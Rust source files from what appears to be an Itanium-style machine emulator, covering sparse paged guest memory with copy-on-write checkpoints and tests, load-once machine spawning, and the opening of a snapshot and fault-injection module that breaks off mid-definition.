    /// Reads `out.len()` bytes starting at `addr` (no alignment requirement).
    ///
    /// Runs page-span at a time; on error, spans before the faulting page
    /// have already been copied into `out` — exactly the bytes a per-byte
    /// loop would have produced, since permissions are page-granular.
    ///
    /// # Errors
    ///
    /// [`MemError`] if any byte is unimplemented or unmapped.
    pub fn read_bytes(&mut self, addr: u64, out: &mut [u8]) -> Result<(), MemError> {
        let mut done = 0usize;
        while done < out.len() {
            let a = addr.wrapping_add(done as u64);
            let off = (a % PAGE_SIZE) as usize;
            let span = (PAGE_USIZE - off).min(out.len() - done);
            let slot = self.slot_for(a, false)?;
            let data = &self.frames[slot as usize].data;
            out[done..done + span].copy_from_slice(&data[off..off + span]);
            done += span;
        }
        Ok(())
    }

    /// Writes `data` starting at `addr` (no alignment requirement).
    ///
    /// Runs page-span at a time (one check + one journal touch per page);
    /// on error, spans before the faulting page have already been written,
    /// matching the per-byte loop's partial-write semantics.
    ///
    /// # Errors
    ///
    /// [`MemError`] if any byte is unimplemented or unmapped.
    pub fn write_bytes(&mut self, addr: u64, data: &[u8]) -> Result<(), MemError> {
        let mut done = 0usize;
        while done < data.len() {
            let a = addr.wrapping_add(done as u64);
            let off = (a % PAGE_SIZE) as usize;
            let span = (PAGE_USIZE - off).min(data.len() - done);
            let slot = self.slot_for(a, true)?;
            let frame = &mut self.frames[slot as usize].data;
            frame[off..off + span].copy_from_slice(&data[done..done + span]);
            if !self.spill_nat.is_empty() {
                // Invalidate every 8-byte spill slot the span overlaps.
                let first = a & !7;
                let last = (a + span as u64 - 1) & !7;
                let mut s = first;
                loop {
                    self.spill_nat.remove(&s);
                    if s == last {
                        break;
                    }
                    s += 8;
                }
            }
            done += span;
        }
        Ok(())
    }

    /// Reads a NUL-terminated string starting at `addr`, up to `max` bytes
    /// (NUL not included in the result).
    ///
    /// # Errors
    ///
    /// [`MemError`] if the string runs off mapped memory before a NUL or
    /// before `max` bytes.
    pub fn read_cstr(&mut self, addr: u64, max: usize) -> Result<Vec<u8>, MemError> {
        let mut out = Vec::new();
        let mut done = 0usize;
        while done < max {
            let a = addr.wrapping_add(done as u64);
            let off = (a % PAGE_SIZE) as usize;
            let span = (PAGE_USIZE - off).min(max - done);
            let slot = self.slot_for(a, false)?;
            let chunk = &self.frames[slot as usize].data[off..off + span];
            match chunk.iter().position(|&b| b == 0) {
                Some(nul) => {
                    out.extend_from_slice(&chunk[..nul]);
                    return Ok(out);
                }
                None => out.extend_from_slice(chunk),
            }
            done += span;
        }
        Ok(out)
    }

    /// Number of distinct pages that have been touched (diagnostics).
    pub fn resident_pages(&self) -> usize {
        self.frames.len()
    }

    /// Folds the observable memory state into `h`. All-zero pages digest
    /// identically to absent ones: region 0 is lazily zero-backed, so a page
    /// a read faulted in is indistinguishable from one never touched.
    pub(crate) fn digest_into(&self, h: &mut crate::snapshot::Fnv) {
        let mut slots: Vec<(u64, usize)> = self
            .frames
            .iter()
            .enumerate()
            .filter(|(_, f)| f.data.iter().any(|&b| b != 0))
            .map(|(s, f)| (f.page, s))
            .collect();
        slots.sort_unstable();
        for (page, slot) in slots {
            h.word(page);
            h.bytes(&self.frames[slot].data[..]);
        }
        // Domain separators keep the variable-length sections unambiguous.
        h.word(u64::MAX);
        let mut mapped: Vec<u64> = self.mapped.iter().copied().collect();
        mapped.sort_unstable();
        for m in mapped {
            h.word(m);
        }
        h.word(u64::MAX);
        let mut nats: Vec<u64> = self.spill_nat.iter().copied().collect();
        nats.sort_unstable();
        for n in nats {
            h.word(n);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_isa::make_vaddr;

    fn mapped() -> (Memory, u64) {
        let mut m = Memory::new();
        let base = make_vaddr(1, 0x10000);
        m.map_range(base, 0x2000);
        (m, base)
    }

    #[test]
    fn int_round_trip_all_sizes() {
        let (mut m, base) = mapped();
        for (size, val) in [(1u64, 0xab), (2, 0xbeef), (4, 0xdead_beef), (8, 0x0123_4567_89ab_cdef)]
        {
            m.write_int(base, size, val).unwrap();
            assert_eq!(m.read_int(base, size).unwrap(), val);
        }
    }

    #[test]
    fn little_endian_layout() {
        let (mut m, base) = mapped();
        m.write_int(base, 8, 0x0102_0304_0506_0708).unwrap();
        let mut bytes = [0u8; 8];
        m.read_bytes(base, &mut bytes).unwrap();
        assert_eq!(bytes, [8, 7, 6, 5, 4, 3, 2, 1]);
    }

    #[test]
    fn unaligned_int_access_rejected() {
        let (mut m, base) = mapped();
        assert_eq!(m.read_int(base + 1, 8), Err(MemError::Unaligned { addr: base + 1, size: 8 }));
        // …but byte-granularity accessors don't require alignment.
        m.write_bytes(base + 1, &[9]).unwrap();
        // The alignment error must also fire on the TLB-hit fast path.
        m.read_int(base, 8).unwrap();
        assert_eq!(m.read_int(base + 4, 8), Err(MemError::Unaligned { addr: base + 4, size: 8 }));
    }

    #[test]
    fn unmapped_access_rejected() {
        let mut m = Memory::new();
        let a = make_vaddr(1, 0);
        assert_eq!(m.read_int(a, 8), Err(MemError::Unmapped { addr: a }));
    }

    #[test]
    fn unimplemented_bits_rejected() {
        let mut m = Memory::new();
        let bad = (1u64 << 61) | (1 << 55);
        assert_eq!(m.read_int(bad, 8), Err(MemError::Unimplemented { addr: bad }));
    }

    #[test]
    fn region_zero_is_lazily_backed() {
        let mut m = Memory::new();
        // No explicit mapping: tag space reads as zero and accepts writes.
        let tag = make_vaddr(0, 0x1234 * 8);
        assert_eq!(m.read_int(tag, 1).unwrap(), 0);
        m.write_int(tag, 1, 0xff).unwrap();
        assert_eq!(m.read_int(tag, 1).unwrap(), 0xff);
    }

    #[test]
    fn cstr_reading() {
        let (mut m, base) = mapped();
        m.write_bytes(base, b"hello\0world").unwrap();
        assert_eq!(m.read_cstr(base, 64).unwrap(), b"hello");
        // max cap respected when no NUL found in range
        assert_eq!(m.read_cstr(base, 3).unwrap(), b"hel");
    }

    #[test]
    fn map_range_page_granularity() {
        let mut m = Memory::new();
        let base = make_vaddr(2, 0x5000);
        m.map_range(base + 10, 1);
        // Whole containing page becomes mapped.
        assert!(m.is_mapped(base));
        assert!(!m.is_mapped(base + PAGE_SIZE));
    }

    #[test]
    #[should_panic(expected = "unimplemented bits")]
    fn map_range_rejects_noncanonical() {
        let mut m = Memory::new();
        m.map_range((1u64 << 61) | (1 << 50), 8);
    }

    #[test]
    fn tlb_counts_hits_and_misses() {
        let (mut m, base) = mapped();
        m.write_int(base, 8, 1).unwrap();
        let (_, misses) = m.tlb_stats();
        assert!(misses >= 1);
        for i in 0..16 {
            m.read_int(base + i * 8, 8).unwrap();
        }
        let (hits, misses_after) = m.tlb_stats();
        assert!(hits >= 16, "same-page accesses must hit the TLB (hits={hits})");
        assert_eq!(misses_after, misses, "no new misses on a hot page");
    }

    #[test]
    fn tlb_invalidated_by_rollback() {
        let mut m = Memory::new();
        let base = make_vaddr(1, 0x10000);
        m.begin_checkpoint();
        // Map + write inside the checkpoint, priming the TLB for the page.
        m.map_range(base, PAGE_SIZE);
        m.write_int(base, 8, 0xdead).unwrap();
        assert!(m.is_mapped(base));
        assert!(m.rollback_checkpoint());
        // The mapping was revoked; a stale TLB entry must not leak through.
        assert!(!m.is_mapped(base));
        assert_eq!(m.read_int(base, 8), Err(MemError::Unmapped { addr: base }));
    }

    #[test]
    fn repeated_rollback_to_same_checkpoint() {
        let (mut m, base) = mapped();
        m.write_int(base, 8, 111).unwrap();
        m.begin_checkpoint();
        for round in 0..3 {
            m.write_int(base, 8, 222 + round).unwrap();
            assert!(m.rollback_checkpoint());
            assert_eq!(m.read_int(base, 8).unwrap(), 111, "round {round}");
        }
    }

    #[test]
    fn spill_nat_survives_unrelated_stores_and_dies_on_overwrite() {
        let (mut m, base) = mapped();
        m.write_int(base, 8, 7).unwrap();
        m.set_spill_nat(base, true);
        // Store to a *different* slot: NaT survives (and the empty-bank
        // fast path is not taken, since the bank is non-empty).
        m.write_int(base + 8, 8, 9).unwrap();
        assert!(m.spill_nat(base));
        // Byte store into the slot kills it.
        m.write_bytes(base + 3, &[1]).unwrap();
        assert!(!m.spill_nat(base));
    }

    #[test]
    fn bulk_ops_cross_page_boundaries() {
        let mut m = Memory::new();
        let base = make_vaddr(1, 0x10000);
        m.map_range(base, 0x4000);
        let data: Vec<u8> = (0..=255u8).cycle().take(5000).collect();
        let start = base + PAGE_SIZE - 100;
        m.write_bytes(start, &data).unwrap();
        let mut back = vec![0u8; data.len()];
        m.read_bytes(start, &mut back).unwrap();
        assert_eq!(back, data);
    }

    #[test]
    fn bulk_write_faults_at_page_boundary_with_partial_write() {
        let mut m = Memory::new();
        let base = make_vaddr(1, 0x10000);
        m.map_range(base, PAGE_SIZE); // one page only
        let data = vec![0xaa; (PAGE_SIZE + 10) as usize];
        let err = m.write_bytes(base, &data).unwrap_err();
        assert_eq!(err, MemError::Unmapped { addr: base + PAGE_SIZE });
        // The mapped prefix was written before the fault.
        assert_eq!(m.read_int(base + PAGE_SIZE - 8, 8).unwrap(), 0xaaaa_aaaa_aaaa_aaaa);
    }
}
