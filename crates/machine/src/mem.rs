//! Sparse paged guest memory.
//!
//! Pages are allocated on demand for *mapped* ranges; region 0 (the tag
//! space) is lazily zero-backed on first touch, modelling a kernel that
//! demand-faults the bitmap in, so instrumented code can touch the tag of any
//! mapped data address without explicit setup (§3.2).

use std::collections::HashMap;

use shift_isa::{is_implemented, region_of};

/// Page size in bytes.
pub const PAGE_SIZE: u64 = 4096;

/// Error from a raw memory access (converted to a [`crate::Fault`] by the
/// executor, which adds the faulting `ip`).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum MemError {
    /// Address has unimplemented bits set.
    Unimplemented {
        /// The offending address.
        addr: u64,
    },
    /// Address is not mapped.
    Unmapped {
        /// The offending address.
        addr: u64,
    },
    /// Access is not naturally aligned.
    Unaligned {
        /// The offending address.
        addr: u64,
        /// Access size in bytes.
        size: u64,
    },
}

impl MemError {
    /// The address involved in the error.
    pub fn addr(&self) -> u64 {
        match *self {
            MemError::Unimplemented { addr }
            | MemError::Unmapped { addr }
            | MemError::Unaligned { addr, .. } => addr,
        }
    }
}

impl std::fmt::Display for MemError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match *self {
            MemError::Unimplemented { addr } => write!(f, "unimplemented bits in {addr:#x}"),
            MemError::Unmapped { addr } => write!(f, "unmapped address {addr:#x}"),
            MemError::Unaligned { addr, size } => {
                write!(f, "unaligned {size}-byte access at {addr:#x}")
            }
        }
    }
}

impl std::error::Error for MemError {}

/// Sparse paged memory with explicit mappings (plus lazily-backed region 0).
///
/// Besides byte contents, the memory tracks one NaT bit per 8-byte slot for
/// `st8.spill`/`ld8.fill`. Real Itanium banks these bits in the 64-bit `UNAT`
/// register and relies on the compiler to save/restore `UNAT` around spill
/// areas; modelling the bits as a per-slot side table is equivalent to a
/// compiler that manages `UNAT` correctly, without emitting the bookkeeping
/// code. Ordinary stores *clear* the slot's NaT bit (the spilled value is
/// gone), and ordinary loads never see it — only `ld8.fill` does.
#[derive(Clone, Debug, Default)]
pub struct Memory {
    pages: HashMap<u64, Box<[u8; PAGE_SIZE as usize]>>,
    mapped: HashMap<u64, ()>,
    spill_nat: HashMap<u64, ()>,
    journal: Option<Journal>,
    epoch: u64,
}

/// Copy-on-write undo log for one active checkpoint.
///
/// Page *contents* are captured lazily: the first write to a page after the
/// checkpoint records its pre-image (`None` when the page did not exist
/// yet). The small bookkeeping maps (`mapped`, `spill_nat`) are captured
/// eagerly — they hold one unit entry per page / spill slot and cloning them
/// is far cheaper than intercepting every mutation.
#[derive(Clone, Debug, Default)]
struct Journal {
    pre_pages: HashMap<u64, Option<Box<[u8; PAGE_SIZE as usize]>>>,
    pre_mapped: HashMap<u64, ()>,
    pre_spill_nat: HashMap<u64, ()>,
}

impl Memory {
    /// Creates an empty address space.
    pub fn new() -> Memory {
        Memory::default()
    }

    /// Maps (zero-fills) the pages covering `[addr, addr+len)`.
    ///
    /// # Panics
    ///
    /// Panics if the range touches unimplemented address bits — mappings are
    /// made by the loader/runtime, which must use canonical addresses.
    pub fn map_range(&mut self, addr: u64, len: u64) {
        if len == 0 {
            return;
        }
        let end = addr.checked_add(len - 1).expect("mapping wraps the address space");
        assert!(
            is_implemented(addr) && is_implemented(end),
            "mapping {addr:#x}+{len:#x} touches unimplemented bits"
        );
        let first = addr / PAGE_SIZE;
        let last = end / PAGE_SIZE;
        for page in first..=last {
            self.mapped.insert(page, ());
        }
    }

    /// Returns `true` if the byte at `addr` is mapped (or lazily mappable —
    /// i.e. an implemented region-0 tag address).
    pub fn is_mapped(&self, addr: u64) -> bool {
        is_implemented(addr)
            && (self.mapped.contains_key(&(addr / PAGE_SIZE)) || region_of(addr) == 0)
    }

    fn check(&self, addr: u64, size: u64, aligned: bool) -> Result<(), MemError> {
        if !is_implemented(addr) {
            return Err(MemError::Unimplemented { addr });
        }
        if aligned && !addr.is_multiple_of(size) {
            return Err(MemError::Unaligned { addr, size });
        }
        // A naturally-aligned access never crosses a page boundary, so the
        // first byte's page decides.
        if !self.is_mapped(addr) {
            return Err(MemError::Unmapped { addr });
        }
        Ok(())
    }

    fn page(&mut self, addr: u64) -> &mut [u8; PAGE_SIZE as usize] {
        self.pages.entry(addr / PAGE_SIZE).or_insert_with(|| Box::new([0u8; PAGE_SIZE as usize]))
    }

    /// Records the pre-image of the page containing `addr` before its first
    /// modification under the active checkpoint (no-op when none is armed).
    #[inline]
    fn touch_for_write(&mut self, addr: u64) {
        if let Some(j) = &mut self.journal {
            let idx = addr / PAGE_SIZE;
            j.pre_pages.entry(idx).or_insert_with(|| self.pages.get(&idx).cloned());
        }
    }

    /// Arms a copy-on-write checkpoint: subsequent writes record page
    /// pre-images so [`Memory::rollback_checkpoint`] can undo them. Replaces
    /// any previous checkpoint. Returns the checkpoint's epoch.
    pub fn begin_checkpoint(&mut self) -> u64 {
        self.epoch += 1;
        self.journal = Some(Journal {
            pre_pages: HashMap::new(),
            pre_mapped: self.mapped.clone(),
            pre_spill_nat: self.spill_nat.clone(),
        });
        self.epoch
    }

    /// Epoch of the active checkpoint (0 when none has ever been armed).
    pub fn checkpoint_epoch(&self) -> u64 {
        self.epoch
    }

    /// Returns `true` if a checkpoint is armed.
    pub fn has_checkpoint(&self) -> bool {
        self.journal.is_some()
    }

    /// Undoes every modification since [`Memory::begin_checkpoint`]: dirtied
    /// pages revert to their pre-images, pages that did not exist are
    /// dropped, and mappings / banked spill-NaT bits revert wholesale. The
    /// checkpoint stays armed, so the same point can be rolled back to again.
    /// Returns `false` (doing nothing) when no checkpoint is armed.
    pub fn rollback_checkpoint(&mut self) -> bool {
        let Some(j) = &mut self.journal else {
            return false;
        };
        for (idx, pre) in j.pre_pages.drain() {
            match pre {
                Some(page) => {
                    self.pages.insert(idx, page);
                }
                None => {
                    self.pages.remove(&idx);
                }
            }
        }
        self.mapped = j.pre_mapped.clone();
        self.spill_nat = j.pre_spill_nat.clone();
        true
    }

    /// Drops the active checkpoint (if any) without undoing anything.
    pub fn discard_checkpoint(&mut self) {
        self.journal = None;
    }

    /// Number of pages dirtied since the active checkpoint was armed (0
    /// when none is armed) — the copy-on-write footprint of a rollback.
    pub fn dirty_pages(&self) -> usize {
        self.journal.as_ref().map_or(0, |j| j.pre_pages.len())
    }

    /// Reads a naturally-aligned little-endian integer of `size` ∈ {1,2,4,8}
    /// bytes, zero-extended to `u64`.
    ///
    /// # Errors
    ///
    /// [`MemError`] on unimplemented, unmapped, or unaligned access.
    pub fn read_int(&mut self, addr: u64, size: u64) -> Result<u64, MemError> {
        self.check(addr, size, true)?;
        let page = self.page(addr);
        let off = (addr % PAGE_SIZE) as usize;
        let mut v = 0u64;
        for i in (0..size as usize).rev() {
            v = (v << 8) | u64::from(page[off + i]);
        }
        Ok(v)
    }

    /// Writes a naturally-aligned little-endian integer of `size` ∈ {1,2,4,8}
    /// bytes (value truncated to `size`).
    ///
    /// # Errors
    ///
    /// [`MemError`] on unimplemented, unmapped, or unaligned access.
    pub fn write_int(&mut self, addr: u64, size: u64, value: u64) -> Result<(), MemError> {
        self.check(addr, size, true)?;
        self.touch_for_write(addr);
        let page = self.page(addr);
        let off = (addr % PAGE_SIZE) as usize;
        for i in 0..size as usize {
            page[off + i] = (value >> (8 * i)) as u8;
        }
        // Overwriting any part of a spill slot invalidates its banked NaT.
        self.spill_nat.remove(&(addr & !7));
        Ok(())
    }

    /// Sets or clears the banked NaT bit of the 8-byte spill slot at `addr`
    /// (callers must have just written the slot with `write_int`).
    pub fn set_spill_nat(&mut self, addr: u64, nat: bool) {
        if nat {
            self.spill_nat.insert(addr & !7, ());
        } else {
            self.spill_nat.remove(&(addr & !7));
        }
    }

    /// Reads the banked NaT bit of the 8-byte spill slot at `addr`
    /// (non-destructive, like `ld8.fill`).
    pub fn spill_nat(&self, addr: u64) -> bool {
        self.spill_nat.contains_key(&(addr & !7))
    }

    /// Reads `out.len()` bytes starting at `addr` (no alignment requirement).
    ///
    /// # Errors
    ///
    /// [`MemError`] if any byte is unimplemented or unmapped.
    pub fn read_bytes(&mut self, addr: u64, out: &mut [u8]) -> Result<(), MemError> {
        for (i, slot) in out.iter_mut().enumerate() {
            let a = addr.wrapping_add(i as u64);
            self.check(a, 1, false)?;
            let page = self.page(a);
            *slot = page[(a % PAGE_SIZE) as usize];
        }
        Ok(())
    }

    /// Writes `data` starting at `addr` (no alignment requirement).
    ///
    /// # Errors
    ///
    /// [`MemError`] if any byte is unimplemented or unmapped.
    pub fn write_bytes(&mut self, addr: u64, data: &[u8]) -> Result<(), MemError> {
        for (i, &b) in data.iter().enumerate() {
            let a = addr.wrapping_add(i as u64);
            self.check(a, 1, false)?;
            self.touch_for_write(a);
            let page = self.page(a);
            page[(a % PAGE_SIZE) as usize] = b;
            self.spill_nat.remove(&(a & !7));
        }
        Ok(())
    }

    /// Reads a NUL-terminated string starting at `addr`, up to `max` bytes
    /// (NUL not included in the result).
    ///
    /// # Errors
    ///
    /// [`MemError`] if the string runs off mapped memory before a NUL or
    /// before `max` bytes.
    pub fn read_cstr(&mut self, addr: u64, max: usize) -> Result<Vec<u8>, MemError> {
        let mut out = Vec::new();
        for i in 0..max as u64 {
            let mut b = [0u8];
            self.read_bytes(addr.wrapping_add(i), &mut b)?;
            if b[0] == 0 {
                break;
            }
            out.push(b[0]);
        }
        Ok(out)
    }

    /// Number of distinct pages that have been touched (diagnostics).
    pub fn resident_pages(&self) -> usize {
        self.pages.len()
    }

    /// Folds the observable memory state into `h`. All-zero pages digest
    /// identically to absent ones: region 0 is lazily zero-backed, so a page
    /// a read faulted in is indistinguishable from one never touched.
    pub(crate) fn digest_into(&self, h: &mut crate::snapshot::Fnv) {
        let mut page_idxs: Vec<u64> =
            self.pages.iter().filter(|(_, p)| p.iter().any(|&b| b != 0)).map(|(&i, _)| i).collect();
        page_idxs.sort_unstable();
        for idx in page_idxs {
            h.word(idx);
            h.bytes(&self.pages[&idx][..]);
        }
        // Domain separators keep the variable-length sections unambiguous.
        h.word(u64::MAX);
        let mut mapped: Vec<u64> = self.mapped.keys().copied().collect();
        mapped.sort_unstable();
        for m in mapped {
            h.word(m);
        }
        h.word(u64::MAX);
        let mut nats: Vec<u64> = self.spill_nat.keys().copied().collect();
        nats.sort_unstable();
        for n in nats {
            h.word(n);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_isa::make_vaddr;

    fn mapped() -> (Memory, u64) {
        let mut m = Memory::new();
        let base = make_vaddr(1, 0x10000);
        m.map_range(base, 0x2000);
        (m, base)
    }

    #[test]
    fn int_round_trip_all_sizes() {
        let (mut m, base) = mapped();
        for (size, val) in [(1u64, 0xab), (2, 0xbeef), (4, 0xdead_beef), (8, 0x0123_4567_89ab_cdef)]
        {
            m.write_int(base, size, val).unwrap();
            assert_eq!(m.read_int(base, size).unwrap(), val);
        }
    }

    #[test]
    fn little_endian_layout() {
        let (mut m, base) = mapped();
        m.write_int(base, 8, 0x0102_0304_0506_0708).unwrap();
        let mut bytes = [0u8; 8];
        m.read_bytes(base, &mut bytes).unwrap();
        assert_eq!(bytes, [8, 7, 6, 5, 4, 3, 2, 1]);
    }

    #[test]
    fn unaligned_int_access_rejected() {
        let (mut m, base) = mapped();
        assert_eq!(m.read_int(base + 1, 8), Err(MemError::Unaligned { addr: base + 1, size: 8 }));
        // …but byte-granularity accessors don't require alignment.
        m.write_bytes(base + 1, &[9]).unwrap();
    }

    #[test]
    fn unmapped_access_rejected() {
        let mut m = Memory::new();
        let a = make_vaddr(1, 0);
        assert_eq!(m.read_int(a, 8), Err(MemError::Unmapped { addr: a }));
    }

    #[test]
    fn unimplemented_bits_rejected() {
        let mut m = Memory::new();
        let bad = (1u64 << 61) | (1 << 55);
        assert_eq!(m.read_int(bad, 8), Err(MemError::Unimplemented { addr: bad }));
    }

    #[test]
    fn region_zero_is_lazily_backed() {
        let mut m = Memory::new();
        // No explicit mapping: tag space reads as zero and accepts writes.
        let tag = make_vaddr(0, 0x1234 * 8);
        assert_eq!(m.read_int(tag, 1).unwrap(), 0);
        m.write_int(tag, 1, 0xff).unwrap();
        assert_eq!(m.read_int(tag, 1).unwrap(), 0xff);
    }

    #[test]
    fn cstr_reading() {
        let (mut m, base) = mapped();
        m.write_bytes(base, b"hello\0world").unwrap();
        assert_eq!(m.read_cstr(base, 64).unwrap(), b"hello");
        // max cap respected when no NUL found in range
        assert_eq!(m.read_cstr(base, 3).unwrap(), b"hel");
    }

    #[test]
    fn map_range_page_granularity() {
        let mut m = Memory::new();
        let base = make_vaddr(2, 0x5000);
        m.map_range(base + 10, 1);
        // Whole containing page becomes mapped.
        assert!(m.is_mapped(base));
        assert!(!m.is_mapped(base + PAGE_SIZE));
    }

    #[test]
    #[should_panic(expected = "unimplemented bits")]
    fn map_range_rejects_noncanonical() {
        let mut m = Memory::new();
        m.map_range((1u64 << 61) | (1 << 50), 8);
    }
}
