//! Load-once, spawn-many machine images.
//!
//! [`MachineSeed`] performs the expensive parts of [`Machine::new`] exactly
//! once — decoding cost tables and materializing the initialized memory
//! image — and then stamps out fresh instances with [`MachineSeed::spawn`].
//! The decoded code and per-instruction base-cost table are shared between
//! every spawned instance through `Arc`, and the pristine memory image is
//! [`Memory::freeze`]-prepared so the whole page table is shared the same
//! way: spawning is a handful of reference-count bumps, O(1) in the image
//! size, and an instance pays for private pages only as it copy-on-write
//! faults them in (see DESIGN.md §15).
//!
//! A spawned machine is bit-identical to one built by [`Machine::new`] from
//! the same [`Image`]: same `state_digest`, same cold caches, same zeroed
//! stats. `Machine::new` is itself implemented on top of this type.

use std::sync::Arc;

use shift_isa::{CostModel, Insn};

use crate::block::BlockProgram;
use crate::cpu::Cpu;
use crate::exec::Machine;
use crate::image::Image;
use crate::mem::Memory;

/// A pristine machine image prepared for repeated spawning.
///
/// Cloning a seed is O(1) in the image size: the code and cost tables are
/// shared through `Arc`, and the frozen pristine page table is shared
/// copy-on-write — no page bytes move until an instance writes.
///
/// ```
/// use shift_isa::{Gpr, Insn, Op};
/// use shift_machine::{Image, Machine, MachineSeed, NullOs};
///
/// let image = Image::builder()
///     .code(vec![Insn::new(Op::MovI { dst: Gpr::R8, imm: 1 }), Insn::new(Op::Halt)])
///     .build();
/// let seed = MachineSeed::new(&image);
/// let a = seed.spawn();
/// let b = seed.spawn();
/// // Every spawn is bit-identical to a fresh `Machine::new`.
/// assert_eq!(a.state_digest(), b.state_digest());
/// assert_eq!(a.state_digest(), Machine::new(&image).state_digest());
/// ```
#[derive(Clone, Debug)]
pub struct MachineSeed {
    code: Arc<[Insn]>,
    base_cost: Arc<[u64]>,
    /// Code pre-decoded into superblocks (see `crate::block`): built once
    /// here, shared by every spawn like `code` — decode cost never lands on
    /// the execution path.
    blocks: Arc<BlockProgram>,
    mem: Memory,
    entry: usize,
    stack_top: u64,
}

impl MachineSeed {
    /// Loads an image once: maps its segments, copies initialized data, and
    /// maps the stack.
    ///
    /// # Panics
    ///
    /// Panics if an initialized data segment fails to load (a malformed
    /// image is a programming error, not a guest-visible fault).
    pub fn new(image: &Image) -> MachineSeed {
        let mut mem = Memory::new();
        for &(vaddr, len) in &image.maps {
            mem.map_range(vaddr, len);
        }
        for (vaddr, bytes) in &image.data {
            mem.map_range(*vaddr, bytes.len() as u64);
            mem.write_bytes(*vaddr, bytes).expect("image data segment failed to load");
        }
        mem.map_range(image.stack_top - image.stack_size, image.stack_size);
        // Seal the loaded image behind shared immutable pages: spawns then
        // share the table by Arc bump and COW-fault private copies on write.
        mem.freeze();
        MachineSeed {
            code: image.code.clone().into(),
            base_cost: image.code.iter().map(|i| CostModel::ITANIUM2.base(&i.op)).collect(),
            blocks: Arc::new(BlockProgram::build(&image.code, &CostModel::ITANIUM2)),
            mem,
            entry: image.entry,
            stack_top: image.stack_top,
        }
    }

    /// Spawns a fresh instance from the pristine image: new CPU at the entry
    /// point, cold caches, zeroed stats, shared code.
    pub fn spawn(&self) -> Machine {
        self.clone().into_machine()
    }

    /// Spawns a fresh instance with a fault-injection schedule pre-armed:
    /// each `(countdown, injection)` pair fires after that many further
    /// retired instructions, exactly as [`Machine::inject_after`] would.
    /// This is the chaos-harness spawn path: the schedule is part of the
    /// instance's deterministic identity, so a recorded schedule replays to
    /// the same perturbation at the same retired-instruction count.
    pub fn spawn_injected(&self, injections: &[(u64, crate::Injection)]) -> Machine {
        let mut machine = self.spawn();
        for (insns, inj) in injections {
            machine.inject_after(*insns, inj.clone());
        }
        machine
    }

    /// Consumes the seed, avoiding the memory clone [`spawn`](Self::spawn)
    /// pays. This is the one-shot [`Machine::new`] path.
    pub fn into_machine(self) -> Machine {
        let mut cpu = Cpu::new(self.entry);
        cpu.set_gpr_val(shift_isa::Gpr::SP, self.stack_top);
        Machine::from_seed_parts(cpu, self.mem, self.code, self.base_cost, self.blocks)
    }

    /// Pages of the pristine image that are actually resident (frame
    /// headers — shared with every spawn, not copied per spawn).
    pub fn resident_pages(&self) -> usize {
        self.mem.resident_pages()
    }

    /// Pages a spawn would privately own up front. Always 0 after the
    /// constructor's [`Memory::freeze`]: the pristine image is entirely
    /// shared, and instances only pay for pages they dirty.
    pub fn owned_pages(&self) -> usize {
        self.mem.owned_pages()
    }

    /// Resident pristine pages backed by shared (`Arc`'d) immutable data —
    /// what every spawn references for free.
    pub fn shared_pages(&self) -> usize {
        self.mem.shared_pages()
    }

    /// Static code size in instructions.
    pub fn insn_count(&self) -> usize {
        self.code.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::exec::NullOs;
    use shift_isa::{Gpr, Op};

    fn demo_image() -> Image {
        Image::builder()
            .code(vec![Insn::new(Op::MovI { dst: Gpr::R8, imm: 7 }), Insn::new(Op::Halt)])
            .data(0x1000, vec![1, 2, 3, 4])
            .build()
    }

    #[test]
    fn spawn_matches_machine_new() {
        let image = demo_image();
        let seed = MachineSeed::new(&image);
        let fresh = Machine::new(&image);
        let spawned = seed.spawn();
        assert_eq!(fresh.state_digest(), spawned.state_digest());
        assert_eq!(fresh.code().len(), spawned.code().len());
    }

    #[test]
    fn spawned_instances_are_independent() {
        let image = demo_image();
        let seed = MachineSeed::new(&image);
        let pristine = seed.spawn().state_digest();
        let mut a = seed.spawn();
        a.mem.write_int(0x1000, 8, 0xdead_beef).unwrap();
        let _ = a.run(&mut NullOs, 100);
        // Dirtying one instance never leaks into the seed or its siblings.
        assert_eq!(seed.spawn().state_digest(), pristine);
        assert_ne!(a.state_digest(), pristine);
    }

    #[test]
    fn resident_pages_counts_only_touched_pages() {
        let seed = MachineSeed::new(&demo_image());
        // Only the 4-byte data segment is resident; the stack is mapped but
        // untouched.
        assert_eq!(seed.resident_pages(), 1);
        // Under sharing, residency is all shared frames and zero private
        // ones: a spawn copies no page bytes at all.
        assert_eq!(seed.shared_pages(), 1);
        assert_eq!(seed.owned_pages(), 0);
    }

    #[test]
    fn spawns_share_pages_until_dirtied() {
        let image = demo_image();
        let seed = MachineSeed::new(&image);
        let mut a = seed.spawn();
        let b = seed.spawn();
        let (owned, shared, faults) = a.mem.cow_stats();
        assert_eq!((owned, faults), (0, 0), "a fresh spawn owns nothing");
        assert_eq!(shared, seed.shared_pages());
        a.mem.write_int(0x1000, 8, 0x5eed).unwrap();
        assert_eq!(a.mem.cow_stats().0, 1, "first write owns exactly one page");
        assert_eq!(a.mem.cow_faults(), 1);
        assert_eq!(b.mem.cow_stats().0, 0, "sibling still owns nothing");
        assert_eq!(seed.owned_pages(), 0, "seed stays pristine");
    }
}
