//! Guest snapshots, fault injection, and state digests.
//!
//! The recovery layer (shift-core) snapshots the machine at request
//! boundaries and rolls back on a violation or fault, so one malicious or
//! wedged request cannot take down a long-running server. A [`Snapshot`]
//! pairs a full copy of the architected CPU state (GPRs with NaT bits,
//! predicates, branch registers, `UNAT`, `ip`) with a copy-on-write memory
//! checkpoint armed in [`crate::Memory`]: only pages dirtied after the
//! snapshot are captured, so per-request checkpoints cost proportional to
//! the request's write footprint, not the address space.
//!
//! [`Injection`] describes the transient events the fault-injection harness
//! drives through [`crate::Machine::inject_after`]: NaT-bit flips, tag-bitmap
//! byte corruption, and spurious architectural faults, delivered after a
//! countdown of retired instructions so they land mid-run deterministically.

use shift_isa::Gpr;

use crate::cpu::Cpu;
use crate::fault::Fault;

/// A restorable point in a guest's execution.
///
/// Created by [`crate::Machine::snapshot`]; restored by
/// [`crate::Machine::restore`]. Only one snapshot is live per machine at a
/// time — taking a new one supersedes the old (restoring a superseded
/// snapshot is rejected). Timing state (cache contents, accumulated
/// statistics) is deliberately *not* rolled back: recovery rewinds what the
/// guest can observe, while cycle accounting keeps recording what actually
/// happened, recovery included.
#[derive(Clone, Debug)]
pub struct Snapshot {
